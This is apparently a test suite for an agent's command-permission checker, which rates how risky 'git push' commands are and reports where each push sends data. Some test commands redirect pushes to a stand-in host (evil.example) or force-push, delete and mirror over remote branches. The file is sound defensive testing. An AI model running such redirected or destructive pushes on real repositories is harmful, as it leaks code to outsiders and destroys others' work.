import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { eachOfSample } from "../../../support/each-of-sample.ts";
import { type Lab, permissionLab } from "../../../support/permission-lab.ts";
import { coverOf } from "../../../support/thorough.ts";

const RUN = "terminal_operations.run_command";
const ADDRESS = "https://git.example/team/app.git";

/** A repository on the branch feature, whose upstream is feature. */
const SETUP = `
git init -q --template= -b main . && git config user.name a && git config user.email a@b
echo one > f && git add f && git commit -qm one && git branch other && git tag v1
git switch -qc feature && git commit -q --allow-empty -m two
git remote add origin ${ADDRESS}
git config branch.feature.remote origin && git config branch.feature.merge refs/heads/feature
`;

/** Each: what it is about, what the workload has prepared, and the command. By the text alone some would need a click. */
const NEED_A_PHRASE: readonly (readonly [about: string, prepared: string, command: string])[] = [
  ["the branch of HEAD", "git switch -q main", "git push"],
  ["the branch of HEAD", "git switch -q main", "git push origin"],
  ["a word for HEAD", "git switch -q main", "git push origin HEAD"],
  ["a word for HEAD", "git switch -q main", "git push origin @"],
  ["a word for HEAD", "git switch -q main", "git push -u origin HEAD"],
  ["a commit before HEAD", "git switch -q main", "git push origin HEAD~1"],
  ["a commit first", "git switch -q main", "git commit -qm x --allow-empty && git push"],
  ["settings in the command", "git switch -q main", "cd . && git -c push.default=current push"],
  ["git's own folder", "git switch -q main", "/usr/lib/git-core/git-push origin HEAD"],
  [
    "a branch that stands for another",
    "git symbolic-ref refs/heads/alias refs/heads/main",
    "git push origin alias",
  ],
  [
    "the upstream",
    "git config push.default upstream; git config branch.feature.merge refs/heads/main",
    "git push",
  ],
  [
    "the upstream",
    "git config push.default tracking; git config branch.feature.merge refs/heads/main",
    "git push",
  ],
  [
    "the upstream of another branch",
    "git config push.default upstream; git config branch.other.remote origin; git config branch.other.merge refs/heads/main",
    "git push origin other",
  ],
  [
    "settings in the command",
    "git config branch.feature.merge refs/heads/main",
    "git -c push.default=upstream push",
  ],
  ["matching branches", "git config push.default matching", "git push"],
  [
    "the remote's refspecs",
    "git config remote.origin.push refs/heads/feature:refs/heads/main",
    "git push",
  ],
  [
    "the remote's refspecs for a branch",
    "git config remote.origin.push refs/heads/feature:refs/heads/main",
    "git push origin feature",
  ],
  [
    "the remote's patterns",
    "git config remote.origin.push refs/heads/*:refs/heads/release-*",
    "git push origin feature",
  ],
  ["the remote's refspecs", "git config remote.origin.push HEAD:refs/heads/main", "git push"],
  [
    "forced by the remote",
    "git config remote.origin.push +refs/heads/feature:refs/heads/feature",
    "git push",
  ],
  ["deleted by the remote", "git config remote.origin.push :refs/heads/feature", "git push"],
  ["the remote's patterns", "git config remote.origin.push refs/heads/*:refs/heads/*", "git push"],
  ["a mirror", "git config remote.origin.mirror true", "git push origin feature"],
  [
    "another remote",
    "git config remote.other.push feature:main",
    "git -c remote.pushDefault=other push",
  ],
  [
    "another remote",
    "git config branch.feature.pushRemote p; git config remote.p.push feature:main",
    "git push",
  ],
  ["an alias", "git config alias.up 'push origin feature:main'", "git up"],
  ["an alias", "git config alias.up push; git switch -q main", "git up"],
  [
    "an alias of an alias",
    "git config alias.up go; git config alias.go 'push origin main'",
    "git up",
  ],
  ["an alias for the shell", "git config alias.up '!git push origin feature:main'", "git up"],
  [
    "settings inside an alias",
    "git config alias.up '-c push.default=current push origin main'",
    "git up",
  ],
  ["an alias in capital letters", "git config alias.up 'push origin main'", "git UP"],
  ["quotes in an alias", "git config alias.Up 'push \"origin\" mai\\n'", "git up"],
  [
    "an alias inside an alias",
    "git config alias.up up2; git config alias.up2 '-c alias.z=\"push origin main\" z'",
    "git up",
  ],
  ["an alias in the command", "true", "git -c alias.up='push origin main' up"],
  [
    "git started by git",
    "true",
    "git -c x.y=/workspace for-each-repo --config=x.y push origin feature",
  ],
  ["git started for each submodule", "true", "git submodule foreach git push origin feature"],
  ["a named repository", "true", "git --git-dir=.git push origin feature"],
  [
    "a name that is no branch",
    "git update-ref refs/remotes/origin/x HEAD; git rev-parse HEAD > .git/XX",
    "git push origin XX:refs/heads/feature",
  ],
  ["a branch that is not there", "true", "git push origin new"],
  ["a branch that is not there", "true", "git push origin feature:new~"],
  ["no branch", "git checkout -q --detach", "git push"],
  [
    "a tag that becomes a branch",
    "git config remote.origin.push refs/tags/v1:refs/heads/main",
    "git push origin v1",
  ],
  ["no commit", "git switch -q --orphan empty", "git push"],
  ["a bare repository", "cp -r .git d.git; git config core.bare true; rm -rf d.git", "git push"],
  ["a switch first", "true", "git switch main && git push"],
  ["a switch first", "true", "git switch -q main; git push origin HEAD"],
  ["a checkout first", "true", "git checkout main && git push"],
  ["settings changed first", "true", "git config push.default matching && git push"],
  ["HEAD changed first", "true", "echo 'ref: refs/heads/main' > .git/HEAD && git push"],
  ["settings copied first", "true", "cp prepare.sh .git/config && git push origin feature"],
  [
    "the address changed first",
    "true",
    "git remote set-url origin https://evil.example/ && git push origin feature",
  ],
  [
    "settings changed first",
    "true",
    "git config remote.origin.pushurl x && git push origin feature",
  ],
  [
    "a repository made first",
    "true",
    "git clone https://git.example/x d && git -C d push origin feature",
  ],
  ["a script first", "true", "bash prepare.sh && git push"],
  ["a build first", "true", "npm test && git push"],
  ["a short name of a branch", "true", "git push origin feature:heads/main"],
  ["a full name of a branch", "true", "git push origin feature:refs/heads/main"],
  ["a branch for HEAD", "true", "git push origin HEAD:main"],
  ["forced by its text", "true", "git push origin +feature:feature"],
  ["deleted by its text", "true", "git push origin :other"],
  ["deleted by an option", "true", "git push origin --delete other"],
  ["patterns in its text", "true", "git push origin 'refs/heads/*:refs/heads/*'"],
  ["matching by its text", "true", "git push origin :"],
  ["all branches", "true", "git push --all origin"],
  ["all refs", "true", "git push --mirror"],
  ["the branch before", "true", "git push origin '@{-1}'"],
  ["words that are known only then", "true", "git push origin feature:$(cat x)"],
  ["another verb", "true", "git send-pack https://git.example/x"],
  ["another verb", "git switch -q main", "git subtree push --prefix=d origin main"],
];

describe("a push, by what the repository makes of it", () => {
  const template = mkdtempSync(join(tmpdir(), "pushes-"));
  let lab: Lab;
  const shIn = (cwd: string, script: string) =>
    execFileSync("bash", ["-ec", script], { cwd, encoding: "utf8" }).trim();
  const sh = (script: string) => shIn(lab.files.path("."), script);
  beforeAll(() => void shIn(template, SETUP));
  afterAll(() => rmSync(template, { recursive: true }));
  beforeEach(async () => {
    lab = await permissionLab();
    cpSync(template, lab.files.path("."), { recursive: true });
  });
  afterEach(() => lab[Symbol.asyncDispose]());

  const linesOf = async (command: string) => {
    const { effect, risk } = await lab.question(RUN, { command });
    return {
      risk,
      lines: effect.notes.filter((note) =>
        /^(?:Pushes|Force|Deletes|Makes|Git does not)/.test(note),
      ),
    };
  };

  it.each(coverOf(NEED_A_PHRASE, ([about]) => [about]))(
    "asks for a phrase, for %s: after %s, %s",
    async (_, prepared, command) => {
      sh(`${prepared}; mkdir -p d; echo true > prepare.sh`);
      expect((await lab.question(RUN, { command })).risk).toBe("phrase");
    },
  );

  eachOfSample(10)([
    ["true", "git push", "Pushes feature (ID) to feature"],
    ["true", "git push origin", "Pushes feature (ID) to feature"],
    ["true", "git push origin HEAD", "Pushes feature (ID) to feature"],
    ["true", "git push -u origin feature", "Pushes feature (ID) to feature"],
    ["true", "git push origin feature:wip", "Pushes feature (ID) to wip"],
    ["true", "git push origin v1", "Pushes tags/v1 (V1) to tags/v1"],
    ["true", "git push origin HEAD~1:wip", "Pushes HEAD~1 (V1) to wip"],
    ["true", "git switch -c new && git push -u origin new", "Pushes new (ID) to new"],
    [
      "git config --file .git/config.worktree push.default nothing",
      "git push",
      "Pushes feature (ID) to feature",
    ],
    ["git config extensions.refStorage other", "git push", "Pushes feature (ID) to feature"],
    ["git config alias.up 'push origin'", "git up feature", "Pushes feature (ID) to feature"],
    ["git config alias.UP \"push 'origin' 'feature'\"", "git Up", "Pushes feature (ID) to feature"],
    ["true", "git push origin tag v1", "Pushes tags/v1 (V1) to tags/v1"],
    ["git pack-refs --all", "git push origin other", "Pushes other (V1) to other"],
    ["git config push.default current; git switch -qc x", "git push", "Pushes x (ID) to x"],
    [
      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
      "git push",
      "Pushes feature (ID) to wip",
    ],
    [
      "git config remote.origin.push refs/heads/main:refs/heads/wip",
      "git push origin main:review",
      "Pushes main (V1) to review",
    ],
    [
      "true",
      "git add -A && git commit -m x --allow-empty && git push",
      "Pushes feature (ID and what this command adds) to feature",
    ],
    [
      "true",
      "npm test && git push origin feature",
      "Pushes feature (ID and what this command adds) to feature",
    ],
  ])("asks for a click and says what it sends: after %s, %s", async (prepared, command, line) => {
    const printed = sh(`${prepared}\ngit rev-parse HEAD v1`).split("\n");
    const [id = "", tagged = ""] = printed.map((object) => object.slice(0, 7));
    const expected = `${line.replace("ID", id).replace("V1", tagged)} of ${ADDRESS}.`;
    expect(await linesOf(command)).toEqual({ risk: "click", lines: [expected] });
  });

  it.each([
    ["true", "git push --mirror"],
    ["git branch -D main other", "git push --mirror origin"],
    ["git config remote.origin.mirror true", "git push origin"],
  ])("says that a mirror overwrites everything: after %s, %s", async (prepared, command) => {
    sh(prepared);
    const line = `Makes ${ADDRESS} a mirror: overwrites and deletes its branches and tags.`;
    expect(await linesOf(command)).toEqual({ risk: "phrase", lines: [line] });
  });

  it.each([
    ["git config remote.origin.pushurl https://evil.example/x", "https://evil.example/x"],
    [
      "git config url.https://evil.example/.insteadOf https://git.example/",
      "https://evil.example/team/app.git",
    ],
    [
      "git config url.https://evil.example/.pushInsteadOf https://git.example/team/",
      "https://evil.example/app.git",
    ],
    [
      "git config --add remote.origin.url https://evil.example/x",
      `${ADDRESS} and https://evil.example/x`,
    ],
    [
      "git config remote.origin.url https://me:lab-password@git.example/x",
      "https://me:***@git.example/x",
    ],
    ["git config branch.feature.remote https://evil.example/x", "https://evil.example/x"],
  ])("names the address that git would use: after %s", async (prepared, address) => {
    sh(prepared);
    const { lines } = await linesOf("git push");
    expect(lines[0]).toContain(`to feature of ${address}.`);
  });

  eachOfSample(12)([
    ["true", "git push"],
    ["true", "git push origin HEAD"],
    ["true", "git push origin feature:heads/main"],
    ["true", "git push origin other feature:wip"],
    ["true", "git push origin v1"],
    ["true", "git push origin :kept"],
    ["git symbolic-ref refs/heads/alias refs/heads/main", "git push origin alias"],
    ["git config push.default current; git switch -qc x", "git push"],
    [
      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
      "git push",
    ],
    [
      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
      "git push origin HEAD",
    ],
    [
      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
      "git push origin feature",
    ],
    [
      "git config push.default upstream; git config branch.feature.merge refs/heads/wip",
      "git push origin refs/heads/feature",
    ],
    ["git config remote.origin.push refs/heads/feature:refs/heads/wip", "git push"],
    ["git config remote.origin.push refs/heads/feature:refs/heads/wip", "git push origin feature"],
    ["git config remote.origin.push refs/heads/feature:refs/heads/wip", "git push origin HEAD"],
    ["git config remote.origin.push refs/heads/*:refs/heads/x-*", "git push origin feature"],
    ["git config remote.origin.push HEAD:refs/heads/wip", "git push"],
    ["git config remote.p.url REMOTE; git config branch.feature.pushRemote p", "git push"],
    ["git config remote.p.url REMOTE; git config remote.pushDefault p", "git push"],
    ["git config push.autoSetupRemote true; git switch -qc x", "git push"],
  ])("agrees with git itself: after %s, %s", async (prepared, command) => {
    const remote = lab.files.path("remote.git");
    sh(`git init -q --bare ${remote}; git config remote.origin.url ${remote}
      git push -q origin main main:kept; ${prepared.replace("REMOTE", remote)}`);
    const printed = sh(`${command.replace("push", "push --dry-run --porcelain")}`);
    const reached = [...printed.matchAll(/^.\t(\S*):(\S+)\t/gm)].map(([, , to = ""]) =>
      to.replace(/^refs\/(?:heads\/)?/, ""),
    );
    const { lines } = await linesOf(command);
    const said = lines.map((line) => /(?: to |^Deletes )(\S+) of /.exec(line)?.[1]);
    expect(reached.length).toBeGreaterThan(0);
    expect(said.sort()).toEqual(reached.sort());
  });

  it.each([
    [
      "cd ..; git clone -q -b main --depth 1 file://REMOTE shallow",
      "git -C shallow push origin HEAD:wip",
    ],
    ["true", "git push REMOTE feature"],
    ["git config url./tmp/other.insteadOf REMOTE", "git push REMOTE/x feature"],
    ["git config remote.pushDefault REMOTE", "git push origin feature"],
    ["git config branch.feature.remote REMOTE", "git push"],
  ])("is read where git reads it: after %s, %s", async (prepared, command) => {
    const remote = lab.files.path("remote.git");
    sh(`git init -q --bare ${remote}; git push -q ${remote} main; git config push.default current
      ${prepared.replaceAll("REMOTE", remote).replace("cd ..;", "")}`);
    const { lines } = await linesOf(command.replaceAll("REMOTE", remote));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^Pushes \S+ \([0-9a-f]{7}\) to (?:wip|feature) of \S+\.$/);
  });

  it("names the branch in the phrase", async () => {
    sh("git switch -q main; git config push.default current");
    const { effect } = await lab.question(RUN, { command: "git push" });
    expect(effect.phrase).toBe("push to main");
    expect(effect.reasons.join()).toContain("pushes to a protected branch (main)");
    expect(effect.buttons.map(({ choice }) => choice)).not.toContain("timed");
  });

  it("runs as a command of its own with whole names, and is asked about again", async () => {
    const { run } = (await lab.question(RUN, { command: "git push -uq origin feature:wip" })).call;
    expect(run?.command).toBe(
      "git -C /workspace push --no-set-upstream -q -- origin feature:refs/heads/wip",
    );
    expect(run?.pushes).toMatchObject([
      { isWhole: true, setsUpstream: true, answer: { remote: "origin", addresses: [ADDRESS] } },
    ]);
    const other = (await lab.question(RUN, { command: "true && git push origin feature" })).call;
    expect(other.run?.command).toBe("true && git push origin feature");
    expect(other.run?.pushes).toMatchObject([{ isWhole: false }]);
  });

  it.each([
    "git commit -q --allow-empty -m three",
    "git switch -q main",
    "git config branch.feature.merge refs/heads/main",
    "git remote set-url origin https://evil.example/",
    "git reset -q --hard main",
  ])("is another approval after %s", async (change) => {
    const digest = async () => (await lab.question(RUN, { command: "git push" })).digest;
    const before = await digest();
    expect(await digest()).toBe(before);
    sh(change);
    expect(await digest()).not.toBe(before);
  });

  it.each(["remotes", "branches"])("is refused where .git/%s names the remote", async (folder) => {
    mkdirSync(lab.files.path(`.git/${folder}`), { recursive: true });
    writeFileSync(lab.files.path(`.git/${folder}/backup`), "URL: /tmp/evil.git\n");
    const reason = expect.stringContaining(`in .git/${folder}, an old form`);
    const refused = { outcome: "denied", reason };
    expect(await lab.check(RUN, { command: "git push backup feature" })).toMatchObject(refused);
    expect(await lab.check(RUN, { command: "git push origin feature" })).toMatchObject({
      outcome: "ask",
    });
  });

  it("reads the branches of a linked working tree where git does", async () => {
    sh("git worktree add -q linked other");
    const { risk, lines } = await linesOf("git -C linked push origin HEAD");
    expect(risk).toBe("click");
    expect(lines[0]).toMatch(/^Pushes other \([0-9a-f]{7}\) to other of /);
  });

  it("stays the same approval when other refs change", async () => {
    const digest = async () => (await lab.question(RUN, { command: "git push" })).digest;
    const before = await digest();
    sh("git branch more; git tag v2; git pack-refs --all");
    expect(await digest()).toBe(before);
  });

  it("stays a click outside of repositories, where git pushes nothing", async () => {
    sh("rm -rf .git");
    expect(await linesOf("git push")).toEqual({ risk: "click", lines: [] });
  });
});
